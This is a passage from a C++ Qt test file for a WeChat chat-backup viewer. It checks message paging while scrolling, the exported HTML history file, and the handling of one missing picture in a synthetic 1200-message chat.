    constexpr int kCount = 1200;
    wechat::Database db;
    db.friends = {{whole, QStringLiteral("Whole"), {}, 3}, {gap, QStringLiteral("Gap"), {}, 3}};
    QList<QPair<QString, QByteArray>> media;
    const QByteArray thumb = wechat::jpegImage(60, 40, 0x2040ff, QStringLiteral("t"));
    for (const QString& who : {whole, gap}) {
        auto& chat = db.chats[who];
        for (int i = 1; i <= kCount; ++i) {
            const bool picture = i % 40 == 0 || (who == gap && i == 3);
            chat.push_back({1000 + i, picture ? QStringLiteral("<msg><img/></msg>")
                                              : QStringLiteral("m%1.").arg(i),
                            picture ? 3 : 1, i % 2, i});
            // The gap's third message is a picture the backup lacks.
            if (picture && i != 3)
                media << qMakePair(mediaPath("Img", who, i, ".pic_thum"), thumb)
                      << qMakePair(mediaPath("Img", who, i, ".pic"), thumb);
        }
    }
    ChatFixture fx(accountBackup(db, media));
    TFormChat form(fx.dbPath, fx.recordDict, fx.backupPath, fx.root);
    form.InitFriends();
    form.resize(1000, 800);
    form.show();
    QVERIFY(QTest::qWaitForWindowExposed(&form));
    QWebEnginePage* page = form.webHistory->page();
    const auto range = [page] {
        return runJs(page, QStringLiteral("[Number(document.body.dataset.first), "
                                          "Number(document.body.dataset.last), "
                                          "document.querySelectorAll('#list > .e').length]"))
            .toList();
    };
    const auto open = [&](const QString& usrName) {
        QSignalSpy shown(&form, &TFormChat::pageShown);
        const auto items = form.lstFriends->findItems(
            form.session().friendInfo(usrName)->DisplayName, Qt::MatchExactly);
        QCOMPARE(items.size(), 1);
        form.lstFriends->setCurrentItem(items.first());
        form.lstFriendsItemClick(form.lstFriends);
        QTRY_VERIFY_WITH_TIMEOUT(shown.count() >= 1, 30000);
        QVERIFY(shown.first().first().toBool());
    };
    // Scrolls to one end until the page asks for nothing more; returns the range shown.
    const auto scrollTo = [&](bool top) {
        QVariantList last;
        for (int unchanged = 0; unchanged < 20;) {
            runJs(page, top ? QStringLiteral("window.scrollTo(0, 0); true")
                            : QStringLiteral("window.scrollTo(0, 1e9); true"));
            QTest::qWait(50);
            const QVariantList now = range();
            unchanged = now == last ? unchanged + 1 : 0;
            last = now;
        }
        return last;
    };

    QSignalSpy written(&form, &TFormChat::historyWritten);
    open(whole);
    QCOMPARE(range(), (QVariantList{kCount - 250, kCount, 250}));
    QVERIFY(runJs(page, QStringLiteral("document.querySelector('#list > .e:nth-last-child(2)')"
                                       ".textContent.includes('m1199.')"))
                .toBool());
    QTRY_COMPARE_WITH_TIMEOUT(written.count(), 1, 30000);
    const QString file = written.first().first().toString();
    QCOMPARE(file, form.session().tempFile());

    QVariantList top = scrollTo(true);
    QCOMPARE(top.value(0).toInt(), 0);
    QVERIFY2(top.value(2).toInt() <= 750, qPrintable(top.value(2).toString()));
    QCOMPARE(top.value(1).toInt() - top.value(0).toInt(), top.value(2).toInt());
    QVERIFY(runJs(page, QStringLiteral("document.querySelector('#list > .e')"
                                       ".textContent.includes('m1.')"))
                .toBool());
    QCOMPARE(runJs(page, QStringLiteral("Array.from(document.images).filter(i => i.complete && "
                                        "i.naturalWidth == 60).length"))
                 .toInt(),
             runJs(page, QStringLiteral("document.images.length")).toInt());
    const QVariantList bottom = scrollTo(false);
    QCOMPARE(bottom.value(1).toInt(), kCount);
    QVERIFY(bottom.value(2).toInt() <= 750);

    // The page file holds every entry once, in order.
    QFile page1(file);
    QVERIFY(page1.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(page1.readAll());
    QCOMPARE(text.count(QStringLiteral("class=\"leftd\"")) + text.count(QStringLiteral("class=\"rightd\"")),
             2 * kCount);
    const qsizetype m1 = text.indexOf(QStringLiteral("\tm1.\r\n"));
    QVERIFY(m1 >= 0 && m1 < text.indexOf(QStringLiteral("\tm2.\r\n")));

    // The gap: one box, the newest entries shown, the way back stopping before the gap.
    QStringList boxes;
    const std::function<void(QMessageBox&)> record = [&boxes](QMessageBox& box) {
        boxes << box.text();
    };
    whenShown<QMessageBox>(record, 20000);
    written.clear();
    open(gap);
    QTRY_COMPARE_WITH_TIMEOUT(written.count(), 1, 30000);
    QCOMPARE(written.first().first().toString(), QString());
    QTRY_COMPARE_WITH_TIMEOUT(boxes, QStringList{QStringLiteral("Item not found")}, 20000);
    QVERIFY(!form.historyComplete());
    whenShown<QMessageBox>(record, 3000);
    top = scrollTo(true);
    QVERIFY2(top.value(0).toInt() > 0 && top.value(0).toInt() < kCount - 250,
             qPrintable(top.value(0).toString()));
    QTest::qWait(3500);
    QCOMPARE(boxes.size(), 1);
    QCOMPARE(form.webHistory->url(), form.pageUrl());
}

#include "tst_chatwindow.moc"
